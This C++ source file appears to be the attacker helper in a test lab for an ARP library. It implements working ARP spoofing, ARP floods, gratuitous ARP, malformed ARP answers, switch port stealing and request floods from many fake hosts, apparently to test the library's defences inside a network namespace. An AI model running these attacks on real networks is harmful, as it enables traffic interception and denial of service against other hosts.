// The lab's attacker: forges ARP on one link of its network namespace.
//   tw_arp_attacker <link> reply <claimed-ip> <victim-ip> <victim-mac> <count> [<claimed-mac>]
//       forged replies "claimed-ip is at claimed-mac", sent to the victim, as fast as possible
//   tw_arp_attacker <link> flood <claimed-ip> <victim-ip> <victim-mac> <per-second> <seconds>
//                   [<claimed-mac>]
//       the same replies at that rate (sent a millisecond's share at a time) for that long
//   tw_arp_attacker <link> gratuitous <claimed-ip> <count> [<claimed-mac>]
//       gratuitous ARPs for claimed-ip, broadcast, requests and replies alternating
//   tw_arp_attacker <link> answer <claimed-ip> <count> [<claimed-mac>]
//   tw_arp_attacker <link> answer-after <delay-ms> <claimed-ip> <count> [<claimed-mac>]
//       prints "ready" once listening, then answers <count> requests for claimed-ip (0: until
//       SIGTERM or SIGINT); answer-after waits <delay-ms> before each answer, as a slow gateway;
//       with TW_PRINT_ANSWERS set, prints "answer at <ms>" (a monotonic clock) for each answer
//   tw_arp_attacker <link> respond <variant> <claimed-ip> <count> [<claimed-mac>]
//       the same, with an answer that is wrong in one way, written as a whole Ethernet frame:
//       target-ip (another target address), target-mac (another target hardware address),
//       broadcast (a gratuitous reply to everybody), vlan (tagged for VLAN 42), other-host
//       (sent to another host's Ethernet address), ethernet-source (the frame's source is not
//       its ARP sender)
//   tw_arp_attacker <link> flood <claimed-ip> <victim-ip> <victim-mac> <per-second>
//       prints "ready", then sends forged replies at that rate until SIGTERM or SIGINT
//   tw_arp_attacker <link> count-ip <destination-ip>
//       prints "ready", then counts the IPv4 packets for destination-ip that reach this host
//       (sent to its hardware address) until SIGTERM or SIGINT, and prints "counted N"
//   tw_arp_attacker <link> steal <victim-mac> <interval-us>
//       prints "ready", then sends a frame from the victim's Ethernet address every interval
//       until SIGTERM or SIGINT, so that the switch sends the victim's frames here (port
//       stealing): answers meant for the victim reach it only by chance
//   tw_arp_attacker <link> crowd <target-ip> <first-sender-ip> <hosts> <frames-per-second>
//   <seconds>
//       a busy LAN: broadcast requests for target-ip from <hosts> senders (first-sender-ip
//       upwards), each sender's MAC another one from one request to its next, paced at
//       frames-per-second for the seconds given: every request makes the target's kernel write
//       the sender's neighbour entry anew, and tell of it
// The claimed MAC is the link's own unless given. Prints what it did on its last line.
#include "Core_SocketARP/NetworkStack.h"
#include "Core_SocketARP/linux/ArpPacket_linux.h"

#include <arpa/inet.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <cerrno>
#include <chrono>
#include <csignal>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <optional>
#include <string>
#include <thread>
#include <vector>

namespace {

using Core_SocketARP::arp::MacAddress;
using Core_SocketARP::arp::Packet;
using Core_SocketARP::arp::PacketSocket;

volatile std::sig_atomic_t stop_requested = 0;

void RequestStop(int) { stop_requested = 1; }

[[noreturn]] void Fail(const std::string& what) {
    std::fprintf(stderr, "tw_arp_attacker: %s\n", what.c_str());
    std::exit(1);
}

std::uint32_t ParseIp(const char* text) {
    in_addr address{};
    if (inet_pton(AF_INET, text, &address) != 1) {
        Fail(std::string("not an IPv4 address: ") + text);
    }
    return address.s_addr;
}

MacAddress ParseMac(const char* text) {
    MacAddress mac{};
    unsigned parts[6] = {};
    if (std::sscanf(text, "%x:%x:%x:%x:%x:%x", &parts[0], &parts[1], &parts[2], &parts[3],
                    &parts[4], &parts[5]) != 6) {
        Fail(std::string("not a MAC address: ") + text);
    }
    for (int i = 0; i < 6; ++i) {
        mac[static_cast<std::size_t>(i)] = static_cast<std::uint8_t>(parts[i]);
    }
    return mac;
}

long ParseCount(const char* text) {
    char* end = nullptr;
    const long count = std::strtol(text, &end, 10);
    if (end == text || *end != '\0' || count < 0) {
        Fail(std::string("not a count: ") + text);
    }
    return count;
}

MacAddress LinkMac(const std::string& name) {
    const int fd = ::socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    if (fd < 0) {
        Fail("socket: " + std::string(std::strerror(errno)));
    }
    ifreq request{};
    std::strncpy(request.ifr_name, name.c_str(), IFNAMSIZ - 1);
    const int result = ::ioctl(fd, SIOCGIFHWADDR, &request);
    const int error = errno;
    ::close(fd);
    if (result != 0) {
        Fail("SIOCGIFHWADDR " + name + ": " + std::strerror(error));
    }
    MacAddress mac{};
    std::memcpy(mac.data(), request.ifr_hwaddr.sa_data, mac.size());
    return mac;
}

// A sending socket must not queue what the link receives.
std::vector<sock_filter> DropAll() { return Core_SocketARP::arp::DropAllFilter(); }

// The answer to `request` that claims `claimed` is at `claimedMac`.
Packet ReplyTo(const Packet& request, std::uint32_t claimed, const MacAddress& claimedMac) {
    Packet reply;
    reply.operation = Core_SocketARP::arp::operation_reply;
    reply.senderMac = claimedMac;
    reply.senderIp = claimed;
    reply.targetMac = request.senderMac;
    reply.targetIp = request.senderIp;
    return reply;
}

// The answer to `request` as a whole Ethernet frame, wrong in the way `variant` says.
std::vector<std::uint8_t> Frame(const std::string& variant, const Packet& request,
                                std::uint32_t claimed, const MacAddress& claimedMac,
                                const MacAddress& ownMac) {
    Packet reply = ReplyTo(request, claimed, claimedMac);
    MacAddress destination = request.senderMac;
    MacAddress source = claimedMac;
    bool tagged = false;
    if (variant == "target-ip") {
        reply.targetIp = htonl(ntohl(reply.targetIp) + 1);
    } else if (variant == "target-mac") {
        reply.targetMac[5] ^= 0x01;
    } else if (variant == "broadcast") {
        destination = reply.targetMac = Core_SocketARP::arp::broadcast_mac;
        reply.targetIp = claimed;
    } else if (variant == "vlan") {
        tagged = true;
    } else if (variant == "other-host") {
        destination = {0x02, 0x00, 0x00, 0x00, 0x00, 0x99};
    } else if (variant == "ethernet-source") {
        source = ownMac == claimedMac ? MacAddress{0x02, 0, 0, 0, 0, 0x98} : ownMac;
    } else {
        Fail("unknown variant " + variant);
    }
    std::vector<std::uint8_t> frame(destination.begin(), destination.end());
    frame.insert(frame.end(), source.begin(), source.end());
    if (tagged) {
        frame.insert(frame.end(), {0x81, 0x00, 0x00, 42});
    }
    frame.insert(frame.end(), {0x08, 0x06});
    const auto arp = Core_SocketARP::arp::Encode(reply);
    frame.insert(frame.end(), arp.begin(), arp.end());
    return frame;
}

} // namespace

int main(int argc, char** argv) {
    if (argc < 4) {
        Fail("usage: see the comment at the top of ArpAttacker.cpp");
    }
    const std::string link = argv[1];
    const std::string mode = argv[2];
    const int index = static_cast<int>(if_nametoindex(link.c_str()));
    if (index == 0) {
        Fail("no link " + link);
    }
    const MacAddress ownMac = LinkMac(link);
    try {
        if (mode == "reply" && (argc == 7 || argc == 8)) {
            Packet packet;
            packet.operation = Core_SocketARP::arp::operation_reply;
            packet.senderIp = ParseIp(argv[3]);
            packet.senderMac = argc == 8 ? ParseMac(argv[7]) : ownMac;
            packet.targetIp = ParseIp(argv[4]);
            packet.targetMac = ParseMac(argv[5]);
            const long count = ParseCount(argv[6]);
            PacketSocket socket(index, DropAll());
            for (long i = 0; i < count; ++i) {
                socket.Send(packet, index, packet.targetMac);
            }
            std::printf("sent %ld replies\n", count);
            return 0;
        }
        if (mode == "flood" && (argc == 8 || argc == 9)) {
            Packet packet;
            packet.operation = Core_SocketARP::arp::operation_reply;
            packet.senderIp = ParseIp(argv[3]);
            packet.senderMac = argc == 9 ? ParseMac(argv[8]) : ownMac;
            packet.targetIp = ParseIp(argv[4]);
            packet.targetMac = ParseMac(argv[5]);
            const long perSecond = ParseCount(argv[6]);
            const long seconds = ParseCount(argv[7]);
            PacketSocket socket(index, DropAll());
            const auto start = std::chrono::steady_clock::now();
            long sent = 0;
            for (long ms = 1; ms <= seconds * 1000; ++ms) {
                // What is due by the end of this millisecond, then a wait for its end.
                for (const long due = perSecond * ms / 1000; sent < due; ++sent) {
                    socket.Send(packet, index, packet.targetMac);
                }
                std::this_thread::sleep_until(start + std::chrono::milliseconds(ms));
            }
            std::printf("sent %ld replies\n", sent);
            return 0;
        }
        if (mode == "gratuitous" && (argc == 5 || argc == 6)) {
            Packet packet;
            packet.senderIp = ParseIp(argv[3]);
            packet.targetIp = packet.senderIp;
            packet.senderMac = argc == 6 ? ParseMac(argv[5]) : ownMac;
            const long count = ParseCount(argv[4]);
            PacketSocket socket(index, DropAll());
            for (long i = 0; i < count; ++i) {
                const bool request = i % 2 == 0;
                packet.operation = request ? Core_SocketARP::arp::operation_request
                                           : Core_SocketARP::arp::operation_reply;
                packet.targetMac = request ? MacAddress{} : Core_SocketARP::arp::broadcast_mac;
                socket.Send(packet, index, Core_SocketARP::arp::broadcast_mac);
            }
            std::printf("sent %ld gratuitous\n", count);
            return 0;
        }
        if (mode == "flood" && argc == 7) {
            Packet packet;
            packet.operation = Core_SocketARP::arp::operation_reply;
            packet.senderIp = ParseIp(argv[3]);
            packet.senderMac = ownMac;
            packet.targetIp = ParseIp(argv[4]);
            packet.targetMac = ParseMac(argv[5]);
            const long perSecond = std::max(1L, ParseCount(argv[6]));
            const auto interval = std::chrono::nanoseconds(1'000'000'000 / perSecond);
            PacketSocket socket(index, DropAll());
            std::signal(SIGTERM, RequestStop);
            std::signal(SIGINT, RequestStop);
            std::printf("ready\n");
            std::fflush(stdout);
            long sent = 0;
            auto next = std::chrono::steady_clock::now();
            while (stop_requested == 0) {
                socket.Send(packet, index, packet.targetMac);
                ++sent;
                next += interval;
                std::this_thread::sleep_until(next);
            }
            std::printf("sent %ld\n", sent);
            return 0;
        }
        if (mode == "count-ip" && argc == 4) {
            const std::uint32_t destination = ParseIp(argv[3]);
            const int fd = ::socket(AF_PACKET, SOCK_DGRAM | SOCK_CLOEXEC, htons(ETH_P_IP));
            if (fd < 0) {
                Fail("packet socket: " + std::string(std::strerror(errno)));
            }
            sockaddr_ll at{};
            at.sll_family = AF_PACKET;
            at.sll_protocol = htons(ETH_P_IP);
            at.sll_ifindex = index;
            if (::bind(fd, reinterpret_cast<const sockaddr*>(&at), sizeof at) != 0) {
                Fail("bind: " + std::string(std::strerror(errno)));
            }
            const timeval tick{0, 100000};
            ::setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tick, sizeof tick);
            std::signal(SIGTERM, RequestStop);
            std::signal(SIGINT, RequestStop);
            std::printf("ready\n");
            std::fflush(stdout);
            long counted = 0;
            std::uint8_t packet[2048];
            while (stop_requested == 0) {
                sockaddr_ll from{};
                socklen_t length = sizeof from;
                const ssize_t size = ::recvfrom(fd, packet, sizeof packet, 0,
                                                reinterpret_cast<sockaddr*>(&from), &length);
                std::uint32_t to = 0;
                if (size >= 20 && from.sll_pkttype == PACKET_HOST) {
                    std::memcpy(&to, packet + 16, sizeof to);
                    counted += to == destination ? 1 : 0;
                }
            }
            std::printf("counted %ld\n", counted);
            return 0;
        }
        if (mode == "crowd" && argc == 8) {
            const std::uint32_t target = ParseIp(argv[3]);
            const std::uint32_t first = ntohl(ParseIp(argv[4]));
            const long hosts = std::max(ParseCount(argv[5]), 1L);
            const long rate = std::max(ParseCount(argv[6]), 1L);
            const long seconds = ParseCount(argv[7]);
            PacketSocket socket(index, DropAll());
            Packet packet;
            packet.operation = Core_SocketARP::arp::operation_request;
            packet.targetIp = target;
            // Paced in slices of 10 ms, so that the rate holds without a wait a frame.
            const long perSlice = std::max(rate / 100, 1L);
            const auto slice = std::chrono::microseconds(1000000 * perSlice / rate);
            const auto start = std::chrono::steady_clock::now();
            const long total = rate * seconds;
            long sent = 0;
            while (sent < total) {
                for (long i = 0; i < perSlice && sent < total; ++i, ++sent) {
                    const long host = sent % hosts;
                    const long round = sent / hosts;
                    packet.senderIp = htonl(first + static_cast<std::uint32_t>(host));
                    packet.senderMac = {0x02,
                                        0xcc,
                                        static_cast<std::uint8_t>(round & 1),
                                        static_cast<std::uint8_t>(host >> 16),
                                        static_cast<std::uint8_t>(host >> 8),
                                        static_cast<std::uint8_t>(host)};
                    socket.Send(packet, index, Core_SocketARP::arp::broadcast_mac);
                }
                std::this_thread::sleep_until(start + slice * (sent / perSlice));
            }
            std::printf("sent %ld requests from %ld hosts\n", sent, hosts);
            return 0;
        }
        if (mode == "steal" && argc == 5) {
            const MacAddress victim = ParseMac(argv[3]);
            const auto interval = std::chrono::microseconds(ParseCount(argv[4]));
            const int raw = ::socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0);
            if (raw < 0) {
                Fail("raw socket: " + std::string(std::strerror(errno)));
            }
            // To nobody (flooded, dropped by every host), from the victim, of a local type.
            std::vector<std::uint8_t> frame = {0x02, 0x00, 0x00, 0x00, 0x00, 0x99};
            frame.insert(frame.end(), victim.begin(), victim.end());
            frame.insert(frame.end(), {0x88, 0xb5});
            frame.resize(60, 0);
            sockaddr_ll to{};
            to.sll_family = AF_PACKET;
            to.sll_ifindex = index;
            std::signal(SIGTERM, RequestStop);
            std::signal(SIGINT, RequestStop);
            std::printf("ready\n");
            std::fflush(stdout);
            long sent = 0;
            while (stop_requested == 0) {
                if (::sendto(raw, frame.data(), frame.size(), 0,
                             reinterpret_cast<const sockaddr*>(&to), sizeof to) > 0) {
                    ++sent;
                }
                std::this_thread::sleep_for(interval);
            }
            std::printf("sent %ld\n", sent);
            return 0;
        }
        const bool delayed = mode == "answer-after";
        const bool crafted = mode == "respond";
        const int first = delayed || crafted ? 4 : 3; // the claimed address's argument
        if ((mode == "answer" || delayed || crafted) && (argc == first + 2 || argc == first + 3)) {
            const auto delay = std::chrono::milliseconds(delayed ? ParseCount(argv[3]) : 0);
            const std::string variant = crafted ? argv[3] : "";
            // Whole frames go out on a raw socket that receives nothing.
            const int raw = crafted ? ::socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0) : -1;
            if (crafted && raw < 0) {
                Fail("raw socket: " + std::string(std::strerror(errno)));
            }
            const std::uint32_t claimed = ParseIp(argv[first]);
            const long count = ParseCount(argv[first + 1]);
            const MacAddress claimedMac = argc == first + 3 ? ParseMac(argv[first + 2]) : ownMac;
            std::signal(SIGTERM, RequestStop);
            std::signal(SIGINT, RequestStop);
            PacketSocket socket(index, Core_SocketARP::arp::RequestFilter(claimed));
            const bool printEach = std::getenv("TW_PRINT_ANSWERS") != nullptr;
            std::printf("ready\n");
            std::fflush(stdout);
            long answered = 0;
            while (stop_requested == 0 && (count == 0 || answered < count)) {
                const auto received = socket.Receive(std::chrono::steady_clock::now() +
                                                     std::chrono::milliseconds(100));
                if (!received ||
                    received->packet.operation != Core_SocketARP::arp::operation_request) {
                    continue;
                }
                std::this_thread::sleep_for(delay);
                if (crafted) {
                    const auto frame =
                        Frame(variant, received->packet, claimed, claimedMac, ownMac);
                    sockaddr_ll to{};
                    to.sll_family = AF_PACKET;
                    to.sll_ifindex = index;
                    if (::sendto(raw, frame.data(), frame.size(), 0,
                                 reinterpret_cast<const sockaddr*>(&to), sizeof to) < 0) {
                        Fail("sendto: " + std::string(std::strerror(errno)));
                    }
                    ++answered;
                    continue;
                }
                socket.Send(ReplyTo(received->packet, claimed, claimedMac), index,
                            received->packet.senderMac);
                ++answered;
                if (printEach) {
                    std::printf("answer at %lld\n",
                                static_cast<long long>(
                                    std::chrono::duration_cast<std::chrono::milliseconds>(
                                        std::chrono::steady_clock::now().time_since_epoch())
                                        .count()));
                    std::fflush(stdout);
                }
            }
            std::printf("answered %ld\n", answered);
            return 0;
        }
    } catch (Core_SocketARP::SystemErrorCode code) {
        Fail("system error " + std::to_string(code) + ": " + std::strerror(static_cast<int>(code)));
    }
    Fail("usage: see the comment at the top of ArpAttacker.cpp");
}
